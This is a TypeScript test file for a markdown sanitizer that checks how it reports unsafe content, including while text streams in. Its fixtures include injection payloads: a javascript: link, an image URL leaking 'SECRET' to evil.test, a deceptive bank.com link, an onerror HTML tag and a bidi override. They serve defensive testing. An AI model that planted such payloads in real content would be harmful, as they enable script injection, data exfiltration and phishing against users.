import { createMarkdownStream, toSafeTree, type Finding } from '@glovebox/markdown'
import fc from 'fast-check'
import { isDeepStrictEqual } from 'node:util'
import { describe, expect, it } from 'vitest'
import { hostileText } from '../attacks/hostileText.js'
import { unsafeText } from './unsafeText.js'

function findingsIn(unsafe: string): Finding[] {
  const findings: Finding[] = []
  toSafeTree(unsafe, { onFinding: (finding) => findings.push(finding) })
  return findings
}

describe('a finding', () => {
  it('has a fixed word, a block and a short visible excerpt, whatever the text', () => {
    fc.assert(
      fc.property(unsafeText, (unsafe) => {
        for (const { reason, block, excerpt } of findingsIn(unsafe)) {
          expect(reason).toMatch(/^[a-z-]{1,20}$/)
          expect(block).toBeGreaterThanOrEqual(0)
          expect(excerpt).toMatch(/^[\x20-\x7e\p{L}\p{N}\p{P}\p{S}]{0,80}$/u)
        }
      }),
      { numRuns: 300 },
    )
  })

  it.each([
    {
      name: 'a link',
      unsafe: 'a\n\nb\n\n[x](javascript:alert(1))',
      safe: { kind: 'link', reason: 'scheme', block: 2, excerpt: 'javascript:alert(1)' },
    },
    {
      name: 'an image',
      unsafe: '![x](https://evil.test/?q=SECRET)',
      safe: {
        kind: 'image',
        reason: 'not-allowed',
        block: 0,
        excerpt: 'https://evil.test/?q=SECRET',
      },
    },
    {
      name: 'hidden text',
      unsafe: '# a\n\nb\u202ec',
      safe: { kind: 'hidden-text', reason: 'bidi', block: 1, excerpt: '\\u{202E}' },
    },
    {
      name: 'a deceptive link',
      unsafe: '[bank.com](https://evil.test)',
      safe: {
        kind: 'deceptive-link',
        reason: 'host',
        block: 0,
        excerpt: 'bank.com → https://evil.test/',
      },
    },
    {
      name: 'HTML',
      unsafe: 'a\n\n<img onerror=a>',
      safe: { kind: 'html', reason: 'tag', block: 1, excerpt: '<img onerror=a>' },
    },
    {
      name: 'a limit',
      unsafe: 'a\n\n' + '>'.repeat(40),
      safe: { kind: 'limit', reason: 'depth', block: 1, excerpt: '>'.repeat(8) },
    },
  ])('of $name says what, why and where', ({ unsafe, safe }) => {
    expect(findingsIn(unsafe)).toEqual([safe])
  })

  it('of a text without end is not the last of millions', () => {
    const findings = findingsIn('![x](https://evil.test)\n\n'.repeat(1_500))
    expect([findings.length, findings.at(-1)?.reason]).toEqual([1_000, 'findings'])
  })
})

describe('while a text grows', () => {
  it.each([
    { name: 'details that close later', unsafe: '<details>\n\n**a**\n\n</details>\n\nb' },
    { name: 'a key that closes in its line', unsafe: 'press <kbd>a</kbd> now' },
    { name: 'a tag in what becomes a table', unsafe: '|\n|<details>\n\nb' },
    { name: 'a tag in what becomes a footnote', unsafe: 'a[^<b>]\n\n[^<b>]: c' },
    { name: 'an element that is not drawn', unsafe: '<div onclick=x> and more\n\nb' },
  ])('nothing is told of that is not there in the end: $name', ({ unsafe }) => {
    const stream = createMarkdownStream()
    const told = new Set<string>()
    for (const unit of unsafe) {
      stream.write(unit)
      for (const { kind, reason, block } of stream.findings) told.add(`${kind} ${reason} ${block}`)
    }
    stream.end()
    const final = stream.findings.map(({ kind, reason, block }) => `${kind} ${reason} ${block}`)
    expect([...told].filter((one) => !final.includes(one))).toEqual([])
  })
})

describe('findings of a text that grows', () => {
  it('are told once, in the order of the text, and never taken back', () => {
    fc.assert(
      fc.property(fc.oneof(unsafeText, hostile), fc.integer({ min: 1, max: 9 }), (unsafe, step) => {
        const stream = createMarkdownStream()
        let told: readonly Finding[] = []
        for (let at = 0; at < unsafe.length; at += step) {
          stream.write(unsafe.slice(at, at + step))
          const { findings } = stream
          expect(missingIn(findings, told)).toEqual([])
          told = findings
        }
        stream.end()
        expect(missingIn(stream.findings, told)).toEqual([])
        expect(stream.findings).toEqual(findingsIn(unsafe))
      }),
      { numRuns: 200 },
    )
  })
})

describe('more findings than are told', () => {
  it.each([
    { name: 'as many as there is room for', count: 980 },
    { name: 'more than there is room for', count: 1_100 },
  ])('take none back for one that was settled late: $name', ({ count }) => {
    const stream = createMarkdownStream()
    const told: (readonly Finding[])[] = []
    stream.write('[a\u202e][r] '.repeat(30) + '\n\n')
    for (let at = 0; at < count; at += 100) {
      stream.write('![x](https://evil.test)\n\n'.repeat(Math.min(100, count - at)))
      told.push(stream.findings)
    }
    stream.write('[r]: javascript:a\n\nb')
    told.push(stream.findings)
    stream.end()
    told.push(stream.findings)
    const takenBack = told.flatMap((one, index) => missingIn(one, told[index - 1] ?? []))
    const last = told.at(-1) ?? []
    expect([takenBack, last.length, last.at(-1)?.reason]).toEqual([[], 1_000, 'findings'])
  })
})

const hostile = fc.integer({ min: 0, max: 1e9 }).map(hostileText)

/** What a list does not hold of an earlier one, in its order. */
function missingIn(findings: readonly Finding[], earlier: readonly Finding[]): Finding[] {
  let at = 0
  return earlier.filter((one) => {
    const found = findings.findIndex((other, index) => index >= at && isDeepStrictEqual(one, other))
    if (found >= 0) at = found + 1
    return found < 0
  })
}
